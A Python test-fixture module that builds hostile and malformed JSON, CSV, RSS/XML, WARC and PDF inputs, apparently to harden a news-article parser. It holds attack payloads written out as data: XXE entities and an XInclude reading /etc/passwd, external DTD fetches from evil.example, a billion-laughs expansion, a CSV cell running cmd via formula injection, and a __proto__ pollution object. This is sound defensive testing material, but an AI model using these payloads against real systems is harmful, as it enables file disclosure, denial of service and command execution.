"""JSON, tables, XML, web archives and PDF that mean harm."""

import json
from collections.abc import Iterator

TEXT = "Police in Oslo arrested four people on 4 January 2022."
LONG = 60_000
URLS = ("javascript:alert(1)", "file:///etc/passwd", "http://[", "http://a\x00b/", "x" * 5_000)
INSTANTS = (1e300, -1e300, "0000-00-00", "9999-12-31T23:59:59+23:59", "0001-01-01T00:00:00-23:59", [])


def structured_files() -> Iterator[tuple[str, bytes]]:
    """Name and content of each."""
    yield from _json()
    yield from _tables()
    yield from _xml()
    yield from _others()


def _json() -> Iterator[tuple[str, bytes]]:
    one = json.dumps({"id": 1, "title": "Talks", "text": TEXT})
    dumps = {
        "deep.json": "[" * LONG,
        "deep_objects.json": '{"a":' * 20_000,
        "closed_deep.json": "[" * 3_000 + "]" * 3_000,
        "cut.json": one[:-10],
        "scalars.json": '[1, 2, null, true, "x"]',
        "number.json": '[{"id": ' + "9" * 5_000 + f', "text": "{TEXT}"}}]',
        "infinite.json": f'[{{"id": NaN, "score": Infinity, "text": "{TEXT}"}}]',
        "same_keys.json": f'{{"text": "x", "text": "{TEXT}", "text": 3}}',
        "wrong_types.json": '[{"id": [], "title": {}, "text": 5, "url": true, "published_at": -1}]',
        "half_characters.json": f'[{{"id": "\\ud83d", "title": "\\udc00", "text": "{TEXT} \\ud83d"}}]',
        "empty_list.json": "[]",
        "empty_object.json": "{}",
        "proto.json": f'{{"__proto__": {{"admin": true}}, "__class__": "x", "text": "{TEXT}"}}',
        "broken_lines.jsonl": f"{one}\n{{\n[]\n3\n\n{one[:5]}\n",
        "nulls.jsonl": f"{one}\n\x00\x00\x00\n" * 3,
        "long_key.json": json.dumps({"k" * LONG: 1, "text": TEXT}),
        "urls.jsonl": "\n".join(
            json.dumps({"text": f"{TEXT} {n}", "url": url})
            for n, url in enumerate(
                ("javascript:alert(1)", "file:///etc/passwd", "http://[", "http://a\x00b/", "x" * 5_000)
            )
        ),
        "dates.jsonl": "\n".join(
            json.dumps({"id": n, "text": f"{TEXT} {n}", "published_at": at})
            for n, at in enumerate(
                (1e300, -1e300, "0000-00-00", "9999-12-31T23:59:59+23:59", "0001-01-01T00:00:00-23:59", [])
            )
        ),
    }
    for name, dump in dumps.items():
        yield f"dumps/{name}", dump.encode()


def _tables() -> Iterator[tuple[str, bytes]]:
    head = "id,title,text\r\n"
    tables = {
        "quote": head + '1,"Talks,' + TEXT,
        "long_cell": head + "1,Talks," + "x" * 400_000,
        "formula": head + f"1,=cmd|'/C calc'!A0,{TEXT}\r\n2,@SUM(1),{TEXT} Again.\r\n",
        "ragged": head + "1\r\n1,2,3,4,5,6\r\n,,,\r\n",
        "wide": ",".join(f"c{n}" for n in range(5_000)) + "\r\n" + "x," * 5_000,
        "nulls": head + f"1,\x00,{TEXT}\x00\r\n",
        "same_columns": "text,text,text\r\na,b,c\r\n",
    }
    for name, table in tables.items():
        yield f"tables/{name}.csv", table.encode()
    yield "tables/head_alone.parquet", b"PAR1"
    yield "tables/garbage.parquet", b"PAR1" + b"\x7f\xff" * 500 + b"\xff\xff\xff\x7fPAR1"
    yield "tables/empty_foot.parquet", b"PAR1" + b"\x00" * 12 + b"PAR1"


def _xml() -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    item = f"<item><title>Talks</title><description>{TEXT}</description></item>"

    def feed(items: str, doctype: str = "") -> str:
        return f"{doctype}<rss><channel>{items}</channel></rss>"

    entity = '<!DOCTYPE rss [<!ENTITY p SYSTEM "file:///etc/passwd">]>'
    long_entity = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 20_000}">]>'
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    feeds = {
        "laughs": feed("<item><title>&l9;</title></item>", f'<!DOCTYPE rss [<!ENTITY l0 "lol">{laughs}]>'),
        "quadratic": feed(f"<item><title>{'&a;' * 2_000}</title></item>", long_entity),
        "outside": feed(item + "<item><title>&p;</title></item>", entity),
        "remote": feed(item, '<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">'),
        "parameter": feed(item, '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'),
        "deep": "<rss><channel><item>" + "<a>" * 20_000,
        "cut": f"<rss><channel>{item}<item><title>Ta",
        "no_items": feed(""),
        "wrong_encoding": '<?xml version="1.0" encoding="utf-32"?>' + feed(item),
        "no_encoding": f'<?xml version="1.0" encoding="{"x" * 300}"?>' + feed(item),
        "include": feed(include + item),
        "stylesheet": '<?xml-stylesheet href="file:///etc/passwd"?>' + feed(item),
    }
    for name, content in feeds.items():
        head = "" if content.startswith("<?xml ") else '<?xml version="1.0"?>'
        yield f"feeds/{name}.rss", (head + content).encode()
    yield "feeds/article.nitf.xml", b'<?xml version="1.0"?><nitf><head/><body><body.content>' + b"<block>" * 5_000
    yield (
        "feeds/news.xml",
        b'<?xml version="1.0"?><newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/"><itemSet/></newsMessage>',
    )


def _others() -> Iterator[tuple[str, bytes]]:
    warc = "WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://a.example/\r\nContent-Length: {}\r\n\r\n"
    warc += "HTTP/1.1 200 OK\r\n\r\n"
    for name, length in (("long", "99999999999999999999"), ("negative", "-5"), ("none", "x"), ("zero", "0")):
        yield f"warcs/{name}.warc", warc.format(length).encode() + b"<html><p>Talks ended.</p></html>"
    yield "warcs/chunks.warc", warc.format(70).encode() + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFF\r\nx"
    yield "warcs/head_alone.warc", b"WARC/1.0\r\n"
    yield "pdfs/head_alone.pdf", b"%PDF-1.7\n"
    yield (
        "pdfs/cut.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9",
    )
    yield (
        "pdfs/circle.pdf",
        (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
            b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \n"
            b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n108\n%%EOF"
        ),
    )
